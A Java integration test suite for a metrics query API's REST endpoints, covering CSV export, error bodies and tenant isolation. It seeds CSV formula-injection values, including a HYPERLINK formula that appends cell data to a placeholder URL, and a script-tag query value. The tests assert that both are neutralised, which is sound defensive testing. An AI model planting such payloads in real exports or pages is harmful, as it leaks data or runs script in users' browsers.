package io.pulse.serving.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.context.ApplicationContext;
import io.micronaut.core.type.Argument;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.HttpResponse;
import io.micronaut.http.HttpStatus;
import io.micronaut.http.MutableHttpRequest;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.exceptions.HttpClientResponseException;
import io.micronaut.runtime.server.EmbeddedServer;
import io.pulse.contracts.rollup.Granularity;
import io.pulse.contracts.schema.Migrations;
import io.pulse.contracts.testing.IdentityProvider;
import io.pulse.contracts.testing.TestServices;
import io.pulse.serving.testing.RollupRows;
import io.pulse.serving.testing.ServingProperties;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The REST edges (/v1, /v2) over a real database, with real bearer JWTs. */
class QueryApiIT {

    private static final Instant T0 = Instant.parse("2026-11-25T10:00:00Z");
    private static final String RANGE = "from=2026-11-25T10:00:00Z&to=2026-11-25T10:03:00Z&step=1m";
    private static final TestServices.Postgres POSTGRES = TestServices.postgres();
    private static String url;
    private static EmbeddedServer server;
    private static HttpClient client;
    private static String acme;
    private static String globex;
    private static String noTenant;

    @BeforeAll
    static void start() throws Exception {
        url = POSTGRES.createDatabase("pulse_api");
        Migrations.apply(url, POSTGRES.user(), POSTGRES.password());
        RollupRows rows = new RollupRows(url, POSTGRES.user(), POSTGRES.password());
        for (int minute = 0; minute < 3; minute++) {
            Instant bucket = T0.plusSeconds(60L * minute);
            rows.write(Granularity.ONE_MINUTE, "acme", "latency", Map.of("city", "Zürich, \"HQ\"\nfloor 2"), bucket,
                    new double[] {1, 2, 3}, 3);
            rows.write(Granularity.ONE_MINUTE, "acme", "latency", Map.of("city", "Oslo"), bucket, new double[] {10}, 1);
            rows.write(Granularity.ONE_MINUTE, "globex", "latency", Map.of("city", "Oslo"), bucket,
                    new double[] {500}, 1);
        }
        for (String formula : FORMULAS) {
            rows.write(Granularity.ONE_MINUTE, "acme", "formulas", Map.of("cell", formula), T0, new double[] {1.5e7, 0.25}, 2);
        }
        rows.write(Granularity.ONE_MINUTE, "acme", "formulas", Map.of("cell", "tiny"), T0, new double[] {2.5e-7}, 1);
        rows.write(Granularity.ONE_MINUTE, "acme", "constant", Map.of(), T0, new double[] {1, 1, 1, 1, 1}, 5);
        for (String metric : List.of("bytes", "errors", "latency")) {
            rows.write(Granularity.ONE_HOUR, "acme", metric, Map.of("city", "Oslo"), Instant.now(), new double[] {1}, 1);
        }
        server = ApplicationContext.run(EmbeddedServer.class, ServingProperties.forDatabase(url, Map.of()));
        client = server.getApplicationContext().createBean(HttpClient.class, server.getURL());
        acme = IdentityProvider.shared().token("alice", "acme", "admin");
        globex = IdentityProvider.shared().token("bob", "globex", "admin");
        noTenant = IdentityProvider.shared().tokenWithClaims("mallory", Map.of("roles", List.of("admin")));
    }

    @AfterAll
    static void stop() {
        client.close();
        server.close();
        POSTGRES.dropDatabase(url);
    }

    private static <T> HttpResponse<T> get(String path, String token, Class<T> type) {
        MutableHttpRequest<?> request = HttpRequest.GET(path);
        if (token != null) {
            request.bearerAuth(token);
        }
        return client.toBlocking().exchange(request, type);
    }

    private static final Argument<Map<String, Object>> JSON = Argument.mapOf(String.class, Object.class);

    private static Map<String, Object> json(String path, String token) {
        MutableHttpRequest<?> request = HttpRequest.GET(path);
        if (token != null) {
            request.bearerAuth(token);
        }
        return client.toBlocking().retrieve(request, JSON);
    }

    private static Map<String, Object> errorBody(HttpClientResponseException error) {
        return error.getResponse().getBody(JSON).orElseThrow();
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> list(Object value) {
        return (List<Map<String, Object>>) value;
    }

    private static HttpClientResponseException error(String path, String token) {
        return (HttpClientResponseException) org.assertj.core.api.Assertions.catchThrowable(() -> get(path, token, String.class));
    }

    @Test
    void v1ServesRowsOfPointsMarkedDeprecated() {
        HttpResponse<String> response = get("/v1/metrics/latency/series?" + RANGE + "&aggregate=sum&groupBy=city", acme,
                String.class);
        assertThat(response.getHeaders().get("Deprecation")).startsWith("@");
        assertThat(response.getHeaders().get("Sunset")).endsWith("GMT");
        assertThat(response.getHeaders().get("Link")).contains("successor-version");
        Map<String, Object> body = json("/v1/metrics/latency/series?" + RANGE + "&aggregate=sum&groupBy=city", acme);
        assertThat(body).containsEntry("step", "1m");
        List<Map<String, Object>> series = list(body.get("series"));
        assertThat(series).hasSize(2);
        assertThat(list(series.get(0).get("points")).get(0)).containsEntry("value", 6.0);
    }

    /** Issue 10, fault 8: a sketch's estimate never leaves the exact range of the values it holds. */
    @Test
    void quantilesOfAConstantMetricAreThatConstant() {
        for (String aggregate : List.of("p50", "p90", "p99", "max", "min")) {
            Map<String, Object> body = json("/v1/metrics/constant/series?" + RANGE + "&aggregate=" + aggregate, acme);
            assertThat(list(list(body.get("series")).get(0).get("points")).get(0)).as(aggregate)
                    .containsEntry("value", 1.0);
        }
    }

    @Test
    void v2ServesColumnsOverTheSameEngine() {
        Map<String, Object> body = json("/v2/metrics/latency/series?" + RANGE + "&aggregate=max&groupBy=city", acme);
        assertThat((List<?>) body.get("times")).hasSize(3);
        List<Map<String, Object>> columns = list(body.get("series"));
        assertThat(columns).extracting(c -> (Object) ((Map<?, ?>) c.get("group")).get("city"))
                .containsExactly("Zürich, \"HQ\"\nfloor 2", "Oslo");
        assertThat(columns.get(1)).containsEntry("values", List.of(10.0, 10.0, 10.0));
        HttpResponse<String> again = get("/v2/metrics/latency/series?" + RANGE, acme, String.class);
        assertThat(again.getHeaders().get("Deprecation")).isNull();
        // a repeated request is answered with the rendering the process holds: the same JSON document
        assertThat(again.getContentType()).hasValueSatisfying(t -> assertThat(t.getName()).isEqualTo("application/json"));
        assertThat(get("/v2/metrics/latency/series?" + RANGE, acme, String.class).body()).isEqualTo(again.body())
                .startsWith("{\"metric\":\"latency\"");
    }

    private static final List<String> FORMULAS = List.of("=1+2", "@SUM(1+1)", "+1-2", "-2+3",
            "=HYPERLINK(\"https://example.invalid/?q=\"&A1,\"open\")", "\tx", "\rx");

    /** Issue 10, fault 5: cells a spreadsheet would run as formulas, and numbers it would misread. */
    @Test
    void csvNeutralizesFormulasAndWritesPlainNumbers() {
        String csv = get("/v2/metrics/formulas/series?" + RANGE + "&groupBy=cell&aggregate=sum&format=csv", acme,
                String.class).body();
        assertThat(csv).contains(",'=1+2,", ",'@SUM(1+1),", ",'+1-2,", ",'-2+3,", ",'\tx,", ",\"'\rx\",",
                ",\"'=HYPERLINK(\"\"https://example.invalid/?q=\"\"&A1,\"\"open\"\")\",");
        assertThat(csv).doesNotContain(",=").doesNotContain(",@").doesNotContain(",+").doesNotContain("E7")
                .doesNotContain("E-7").contains(",15000000.25\r\n").contains(",tiny,0.00000025\r\n");
        String counts = get("/v2/metrics/formulas/series?" + RANGE + "&groupBy=cell&format=csv", acme, String.class).body();
        assertThat(counts).contains(",'=1+2,2\r\n").doesNotContain("2.0");
    }

    @Test
    void csvQuotesCommasQuotesAndNewlines() {
        HttpResponse<String> response = get("/v1/metrics/latency/series?" + RANGE + "&groupBy=city&format=csv", acme,
                String.class);
        assertThat(response.getContentType()).hasValueSatisfying(t -> assertThat(t.getName()).isEqualTo("text/csv"));
        assertThat(response.body()).startsWith("time,city,count\r\n")
                .contains("2026-11-25T10:00:00Z,\"Zürich, \"\"HQ\"\"\nfloor 2\",3\r\n")
                .contains("2026-11-25T10:02:00Z,Oslo,1\r\n");
        MutableHttpRequest<?> accept = HttpRequest.GET("/v2/metrics/latency/series?" + RANGE).bearerAuth(acme)
                .accept("text/csv");
        assertThat(client.toBlocking().retrieve(accept)).startsWith("time,count\r\n");
    }

    @Test
    void errorsAreProblemDetailsOnV2AndErrorObjectsOnV1WithoutEchoingInput() {
        HttpClientResponseException v2 = error("/v2/metrics/latency/series?" + RANGE + "&aggregate=%3Cscript%3E", acme);
        assertThat(v2.getStatus().getCode()).isEqualTo(HttpStatus.BAD_REQUEST.getCode());
        assertThat(v2.getResponse().getContentType()).hasValueSatisfying(
                t -> assertThat(t.getName()).isEqualTo("application/problem+json"));
        Map<String, Object> problem = errorBody(v2);
        assertThat(problem).containsEntry("status", 400).containsEntry("title", "Bad Request");
        assertThat((String) problem.get("detail")).contains("unknown aggregate").doesNotContain("<script>");

        HttpClientResponseException v1 = error("/v1/metrics/latency/series?from=yesterday", acme);
        assertThat(v1.getStatus().getCode()).isEqualTo(HttpStatus.BAD_REQUEST.getCode());
        Map<?, ?> error = (Map<?, ?>) errorBody(v1).get("error");
        assertThat((String) error.get("message")).contains("ISO-8601").doesNotContain("yesterday");

        assertThat(error("/v2/metrics/latency/series?" + RANGE + "&limit=abc", acme).getStatus().getCode())
                .isEqualTo(HttpStatus.BAD_REQUEST.getCode());
        HttpClientResponseException range = error("/v2/metrics/latency/series?from=2026-01-01T00:00:00Z"
                + "&to=2026-11-25T00:00:00Z", acme);
        assertThat((String) errorBody(range).get("detail")).contains("range too large");
    }

    @Test
    void callersNeedAValidTokenWithATenantAndSeeOnlyTheirTenant() {
        assertThat(error("/v2/metrics/latency/series?" + RANGE, null).getStatus().getCode()).isEqualTo(HttpStatus.UNAUTHORIZED.getCode());
        assertThat(error("/v1/metrics/latency/series?" + RANGE, "not.a.jwt").getStatus().getCode())
                .isEqualTo(HttpStatus.UNAUTHORIZED.getCode());
        assertThat(error("/v1/metrics/latency/series?" + RANGE, noTenant).getStatus().getCode()).isEqualTo(HttpStatus.FORBIDDEN.getCode());

        Map<String, Object> globexView = json("/v1/metrics/latency/series?" + RANGE + "&aggregate=max", globex);
        List<Map<String, Object>> series = list(globexView.get("series"));
        assertThat(series).singleElement().satisfies(s -> assertThat(s).containsEntry("events", 3));
        assertThat(list(series.get(0).get("points")).get(0)).containsEntry("value", 500.0);
        // there is no way to name another tenant: a tenant parameter is simply not read
        assertThat(json("/v1/metrics/latency/series?" + RANGE + "&tenant=acme&aggregate=max", globex))
                .isEqualTo(globexView);
    }

    @Test
    void theCatalogIsPagedWithACursorOnV2() {
        Map<String, Object> first = json("/v2/metrics?limit=2", acme);
        assertThat(list(first.get("items"))).extracting(m -> m.get("name")).containsExactly("bytes", "errors");
        Map<String, Object> second = json("/v2/metrics?limit=2&cursor=" + first.get("nextCursor"), acme);
        assertThat(list(second.get("items"))).extracting(m -> m.get("name")).containsExactly("latency");
        assertThat(second.get("nextCursor")).isNull();
        assertThat(error("/v2/metrics?cursor=***", acme).getStatus().getCode()).isEqualTo(HttpStatus.BAD_REQUEST.getCode());
        assertThat(list(json("/v1/metrics?top=1", acme).get("metrics"))).hasSize(3);
        assertThat(list(json("/v1/metrics", globex).get("metrics"))).isEmpty();
    }
}
